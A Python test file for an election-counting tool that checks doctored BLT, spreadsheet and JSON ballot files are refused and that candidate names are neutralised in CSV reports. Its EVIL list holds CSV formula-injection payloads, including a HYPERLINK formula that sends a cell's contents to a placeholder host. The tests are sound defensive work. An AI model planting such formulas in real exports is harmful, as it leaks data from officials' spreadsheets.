"""Counting files read whole or refused (hostile review of 370c798, findings G and H, and
``moot count --output csv``; docs/security.md §4).

The actors: a returning officer or a candidate's agent who hands in a doctored ballot file, and
the official who opens the count's CSV in a spreadsheet. A BLT file's lines after the title,
a worksheet row numbered twice, a JSON key given twice: each is refused with where it is,
never a paper or a name silently dropped or shifted. A candidate's name never runs as a
formula in the CSV report. Pure: no database, so the same on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from moot.counting import count, reports
from moot.counting.cli import main
from moot.counting.formats.blt import parse_blt
from moot.csv_export import neutralise_cell

pytestmark = pytest.mark.pure

BALLOTS = "2 1\n1 1 0\n1 2 0\n0\n"


def _count(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# --- G: BLT names and title ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("names", "line"),
    [
        # three.blt: was read as names "A", "Red" and title "Extra"; "Red" elected, exit 0
        ('"A" "Red" "Extra"\n"B"\n"T"\n', 6),
        # extraname.blt: a third name the header does not count was taken as the title
        ('"A"\n"B"\n"C"\n"T"\n', 8),
        # trailing.blt: a string and a line of text after the title were ignored
        ('"A"\n"B"\n"T"\n"junk"\nmore junk 1 2 3\n', 8),
        ('"A"\n"B"\n"T"\nmore junk 1 2 3\n', 8),
        # names on one line with a line after the title: the line may be a name, so the
        # first line may be a name and its party: refused where the readings part
        ('"A" "B"\n"T"\n"source"\n', 5),
    ],
)
def test_a_line_after_the_blt_title_is_refused_with_its_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], names: str, line: int
) -> None:
    path = tmp_path / "count.blt"
    path.write_text(BALLOTS + names)
    code, out, err = _count(capsys, str(path), "--output", "json")
    assert (code, out) == (2, "")
    assert err.startswith(f"moot count: {path}:{line}:"), err
    assert "ends with the title" in err or "the candidate names can be read as" in err


def test_names_on_one_line_only_when_unambiguous(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Exactly the names on the first line, then the title: read as D. Hill's layout.
    path = tmp_path / "hill.blt"
    path.write_text("2 1\n2 2 0\n1 1 0\n0\n" + '"Ann" "Bob"\n"Ward 7"\n')
    code, out, err = _count(capsys, str(path), "--output", "json")
    assert code == 0, err
    report = json.loads(out)
    assert (report["title"], report["elected"]) == ("Ward 7", ["Bob"])
    # Names with an affiliation, or names on one line and a line after the title: refused.
    path.write_text("2 1\n2 2 0\n1 1 0\n0\n" + '"Ann" "Bob"\n"Cy"\n"Ward 7"\n')
    code, out, err = _count(capsys, str(path), "--output", "json")
    assert (code, out) == (2, "")
    assert f"{path}:5:7: the candidate names can be read as" in err


def test_notes_after_the_title_are_kept_only_when_asked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Published reference files (Wichmann's M135) carry a source and a comment line.
    path = tmp_path / "ers.blt"
    path.write_text(BALLOTS + '"A"\n"B"\n"T"\n"the source"\n"a comment"\n')
    assert _count(capsys, str(path))[0] == 2
    code, out, err = _count(capsys, str(path), "--output", "json", "--blt-keep-after-title")
    assert code == 0, err
    assert json.loads(out)["title"] == "T"
    # Even then, names on one line take nothing after their title (three.blt stays refused).
    path.write_text(BALLOTS + '"A" "Red" "Extra"\n"B"\n"T"\n')
    assert _count(capsys, str(path), "--blt-keep-after-title")[0] == 2


# --- H: a worksheet row numbered twice or out of order -----------------------------------------


def _cvr(papers: int) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Cast Vote Record", "Choice 1", "Choice 2"])
    for i in range(1, papers + 1):
        sheet.append([str(i), "Ann" if i <= 6 else "Bob", "Bob" if i <= 6 else "Ann"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _with_sheet(raw: bytes, edit: re.Pattern[str], to: str) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                text, n = edit.subn(to, data.decode())
                assert n == 1
                data = text.encode()
            dst.writestr(info, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("edit", "to", "row"),
    [
        # duprow.xlsx: the 11th row says r="10": openpyxl dropped it, 9 of 10 papers counted
        (re.compile(r'<row r="11"'), '<row r="10"', 10),
        # rows out of order: row 5 after row 11 was dropped the same way
        (re.compile(r'<row r="5"(.*?)</row>(.*)</sheetData>', re.S), '\\2<row r="5"\\1</row>', 5),
    ],
)
def test_a_row_numbered_twice_or_out_of_order_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edit: re.Pattern[str], to: str, row: int
) -> None:
    path = tmp_path / "cvr.xlsx"
    path.write_bytes(_cvr(10))
    code, out, err = _count(capsys, str(path), "--output", "json")
    assert code == 0, err
    assert json.loads(out)["valid"] == "10"
    path.write_bytes(_with_sheet(path.read_bytes(), edit, to))
    code, out, err = _count(capsys, str(path), "--output", "json")
    assert (code, out) == (2, "")
    assert err.startswith(f"moot count: {path}:{row}: row {row} appears"), err


def test_a_cell_named_twice_in_a_row_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The second choice of row 4 given a second time as C4: openpyxl kept the last one only.
    path = tmp_path / "cvr.xlsx"
    raw = _with_sheet(_cvr(10), re.compile(r'<c r="C4"'), '<c r="C4" t="n"><v>1</v></c><c r="C4"')
    path.write_bytes(raw)
    code, out, err = _count(capsys, str(path), "--output", "json")
    assert (code, out) == (2, "")
    assert f"{path}:4:3: cell C4 in row 4" in err


def test_a_json_key_given_twice_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cdf = Path(__file__).resolve().parents[2].parent / "shared" / "elections-data"
    sources = sorted(cdf.rglob("*.json"))
    report = next(
        (p for p in sources if '"CVR"' in p.read_text(errors="replace")[:2_000_000]), None
    )
    if report is None:
        pytest.skip("no CDF report in ../shared/elections-data")
    text = report.read_text()
    # A second "CVR" list after the first: json kept the last only, the first's papers lost.
    doubled = re.sub(r'"CVR"\s*:', '"CVR": [], "CVR":', text, count=1)
    path = tmp_path / "doubled.json"
    path.write_text(doubled)
    code, out, err = _count(capsys, str(path), "--input-format", "cdf", "--output", "json")
    assert (code, out) == (2, "")
    assert "the key 'CVR' appears twice in one JSON object" in err


# --- the CSV report ----------------------------------------------------------------------------

EVIL = ['=HYPERLINK("http://x.test/?"&A1,"Ann")', "@SUM(1)", "+1", "-1", "\tBob", "\r=Cy"]


def test_names_in_the_csv_report_never_run_as_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "evil.blt"
    names = "".join(
        '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"\n' for name in EVIL[:5]
    )
    path.write_text("5 1\n3 1 2 0\n2 2 0\n1 3 4 5 0\n0\n" + names + '"T"\n')
    code, out, err = _count(capsys, str(path), "--output", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0][2:7] == [neutralise_cell(name) for name in EVIL[:5]]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9.]+", cell), row
    elected = [row[-2] for row in rows[1:] if row[-2]]
    assert elected == ["'" + EVIL[0]]


def test_a_carriage_return_in_a_name_keeps_the_row_whole() -> None:
    election = parse_blt("2 1\n1 1 0\n1 2 0\n0\n" + '"\r=Cy"\n"Dee"\n"T"\n')
    assert election.names[0] == "\r=Cy"
    rows = list(csv.reader(io.StringIO(reports.render_csv(count(election, "irv")))))
    assert rows[0][2:4] == ["'\r=Cy", "Dee"]
    assert {len(row) for row in rows} == {len(rows[0])}


@given(st.text(max_size=8))
def test_counting_neutralises_text_as_the_moot_csv_writer_does(text: str) -> None:
    assert reports.csv_text_cell(text) == neutralise_cell(text)


def _cdf_report() -> Path:
    data = Path(__file__).resolve().parents[2].parent / "shared" / "elections-data"
    for path in sorted(data.rglob("*.json")):
        if '"ContestSelection"' in path.read_text(errors="replace")[:2_000_000]:
            return path
    pytest.skip("no CDF report in ../shared/elections-data")


@pytest.mark.parametrize("what", ["candidate", "selection"])
def test_a_cdf_id_given_to_two_candidates_or_selections_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    report = json.loads(_cdf_report().read_text())
    election = report["Election"][0]
    if what == "candidate":
        # A second candidate with the first's @id: its name replaced the first's silently.
        first = election["Candidate"][0]
        election["Candidate"].append({"@id": first["@id"], "Name": "Someone Else"})
        expected = f"candidate id {first['@id']!r} is also"
    else:
        contest = election["Contest"][0]
        first = contest["ContestSelection"][0]
        contest["ContestSelection"].append(dict(first))
        expected = f"selection id {first['@id']!r} is given twice"
    path = tmp_path / "doubled_id.json"
    path.write_text(json.dumps(report))
    code, out, err = _count(capsys, str(path), "--input-format", "cdf", "--output", "json")
    assert (code, out) == (2, "")
    assert expected in err
